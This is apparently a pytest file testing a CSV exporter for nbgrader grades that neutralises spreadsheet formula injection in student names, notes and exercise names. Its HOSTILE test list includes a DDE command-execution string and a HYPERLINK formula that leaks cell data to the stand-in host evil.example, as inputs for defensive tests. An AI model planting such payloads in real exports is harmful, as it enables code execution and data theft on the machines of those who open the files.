"""Grades as CSV: nothing that a student wrote becomes a formula, numbers stay numbers, the columns stay nbgrader's."""

import csv
import os
from datetime import datetime
from types import SimpleNamespace

import pytest
from nbgrader.api import MissingEntry
from nbgrader.apps.exportapp import ExportApp
from nbgrader.plugins.export import CsvExportPlugin
from traitlets.config import Config

from course_lib.errors import CourseError
from course_lib.grading import export
from course_lib.grading.export import SafeCsv, cell, write_class
from course_lib.grading.records import ExerciseRecord, SubmissionOutcome, SubmissionRecord

HOSTILE = [
    "=1+1",
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\tplain",
    "\rplain",
    "   =1",
    "\u00a0=1",
    "\n\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(A1)",
    "  ＝1",
    "\u202e=1",
    "\u200b=1",
    "\ufeff=1",
    "\x00=1",
    "﹦1",
    "−1",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
]


@pytest.mark.parametrize("value", HOSTILE, ids=ascii)
def test_a_text_that_a_spreadsheet_would_run_gets_an_apostrophe(value):
    assert cell(value).startswith("'")


@pytest.mark.parametrize("value", ["Zoë Müller", "a=b", "a-1", "x@y.example", "", "  plain", "王小明", "3", "'=1"])
def test_an_ordinary_text_is_left_as_it_is(value):
    assert cell(value) == value


@pytest.mark.parametrize("value", [-3, 0, 2.25, -0.5, True, None])
def test_a_number_stays_a_number_and_nothing_stays_nothing(value):
    assert cell(value) is value


@pytest.mark.parametrize(
    "letter", "\n\r\t\x00\x1b\x7f\x85\u2028\u2029\u200e\u200f\u202a\u202e\u2066\u2069\ud800", ids=ascii
)
def test_control_characters_and_marks_become_spaces(letter):
    assert cell(f"a{letter}b") == "a b"


def test_a_semicolon_starts_no_formula_where_semicolons_separate():
    assert cell("a;=1+1") == "a;'=1+1"
    assert cell("a; @x; b") == "a; '@x; b"


def test_what_is_no_text_and_no_number_is_written_as_text():
    assert cell(datetime(2026, 1, 2, 3, 4)) == "2026-01-02 03:04:00"
    assert cell(["=1"]) == "['=1']"


# --- the class ------------------------------------------------------------------------------------------------

EMBEDDER, COMMENT = ExerciseRecord(1.5, 2.0, "passed"), ExerciseRecord(None, 1.0, "needs manual grading")
CLASS = [
    SubmissionRecord(
        "ann", SubmissionOutcome.GRADED, 1.5, 2.0, 1.0, 0.5, {"r.embedder": EMBEDDER, "r.comment": COMMENT}, []
    ),
    SubmissionRecord(
        "=cmd", SubmissionOutcome.NO_NOTEBOOK, -1.0, 2.0, 0.0, 0.0, {"r.extra": EMBEDDER}, ["=1", "two\nlines"]
    ),
]


def rows_of(path):
    with path.open(newline="", encoding="utf-8") as stream:
        return list(csv.reader(stream))


@pytest.fixture
def written(tmp_path):
    write_class(tmp_path / "class.csv", "r", CLASS)
    return rows_of(tmp_path / "class.csv")


def test_the_class_has_a_column_for_each_exercise(written):
    first = ["student", "outcome", "score", "max_score", "by_hand", "bonus"]
    assert written[0] == [*first, "embedder", "comment", "extra", "notes"]


def test_what_is_graded_by_hand_and_what_was_not_set_is_empty(written):
    assert written[1] == ["ann", "graded", "1.5", "2.0", "1.0", "0.5", "1.5", "", "", ""]


def test_names_and_notes_of_the_class_are_safe_and_each_record_is_one_line(written, tmp_path):
    assert written[2] == ["'=cmd", "no notebook", "-1.0", "2.0", "0.0", "0.0", "", "", "1.5", "'=1; two lines"]
    assert (tmp_path / "class.csv").read_text(encoding="utf-8").count("\n") == 3


def test_a_hostile_exercise_name_is_safe_too(tmp_path):
    record = SubmissionRecord("ann", SubmissionOutcome.GRADED, exercises={"r.=1": EMBEDDER})
    write_class(tmp_path / "class.csv", "r", [record])
    assert rows_of(tmp_path / "class.csv")[0][6] == "'=1"


def test_quotes_and_commas_do_not_leave_their_cell(tmp_path):
    record = SubmissionRecord('a",=1,"', SubmissionOutcome.GRADED, notes=["x,=1", '"'])
    write_class(tmp_path / "class.csv", "r", [record])
    row = rows_of(tmp_path / "class.csv")[1]
    assert (row[0], row[-1], len(row)) == ('a",=1,"', 'x,=1; "', 7)


def test_an_empty_class_is_a_header(tmp_path):
    write_class(tmp_path / "class.csv", "r", [])
    assert len(rows_of(tmp_path / "class.csv")) == 1


def test_a_write_that_fails_leaves_the_former_file(tmp_path, monkeypatch):
    (tmp_path / "class.csv").write_text("former")

    def full(*args):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full)
    with pytest.raises(CourseError, match="No space left"):
        write_class(tmp_path / "class.csv", "r", CLASS)
    assert (tmp_path / "class.csv").read_text() == "former"


def test_nothing_is_left_beside_the_file(written, tmp_path):
    assert os.listdir(tmp_path) == ["class.csv"]


def test_a_folder_that_is_missing_is_named(tmp_path):
    with pytest.raises(CourseError, match=r"none.class\.csv"):
        write_class(tmp_path / "none" / "class.csv", "r", CLASS)


def test_the_output_may_be_a_device():
    write_class(export.Path(os.devnull), "r", CLASS)
    assert not export.Path(os.devnull).is_file()


# --- nbgrader's export ----------------------------------------------------------------------------------------


class Book:
    """A gradebook of two assignments and two students, of whom one handed one in."""

    assignments = (
        SimpleNamespace(name="ranking", duedate=datetime(2026, 1, 2), max_score=10.0),
        SimpleNamespace(name="meta_lstm", duedate=None, max_score=5.0),
    )
    students = (
        SimpleNamespace(id="ann", last_name="Müller", first_name="Ann", email="ann@x.example"),
        SimpleNamespace(id="bob", last_name="Smith", first_name=None, email=None),
    )

    def find_submission(self, assignment, student):
        if (assignment, student) != ("ranking", "ann"):
            raise MissingEntry
        return SimpleNamespace(timestamp=datetime(2026, 1, 3), score=7.5, late_submission_penalty=2.0)


class HostileBook(Book):
    students = (SimpleNamespace(id="=1", last_name='@x","', first_name="a\nb", email="\u202e+1"),)


def exported(plugin, book, path, **options):
    plugin(to=str(path), **options).export(book)
    return rows_of(path)


@pytest.mark.parametrize(
    "options", [{}, {"student": ["ann"]}, {"assignment": ["meta_lstm"]}, {"student": ["none"]}], ids=str
)
def test_ordinary_grades_are_written_as_nbgrader_writes_them(tmp_path, options):
    ours = exported(SafeCsv, Book(), tmp_path / "ours.csv", **options)
    assert ours == exported(CsvExportPlugin, Book(), tmp_path / "theirs.csv", **options)
    assert ours[0] == list(export.COLUMNS)


def test_hostile_names_stay_in_their_cells(tmp_path):
    _, first, second = exported(SafeCsv, HostileBook(), tmp_path / "grades.csv")
    assert first[3:] == ["'=1", '\'@x","', "a b", "' +1", "0.0", "0.0", "0.0", "10.0"]
    assert second[0] == "meta_lstm"


def test_without_a_name_the_grades_go_to_grades_csv(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    SafeCsv().export(Book())
    assert len(rows_of(tmp_path / "grades.csv")) == 5


def test_nbgrader_takes_it_as_its_exporter():
    config = Config({"ExportApp": {"plugin_class": "course_lib.grading.export.SafeCsv"}})
    assert ExportApp(config=config).plugin_class is SafeCsv


def test_the_configured_options_reach_it():
    config = Config({"ExportPlugin": {"to": "x.csv", "student": ["ann"]}})
    plugin = SafeCsv(config=config)
    assert (plugin.to, plugin.student) == ("x.csv", ["ann"])
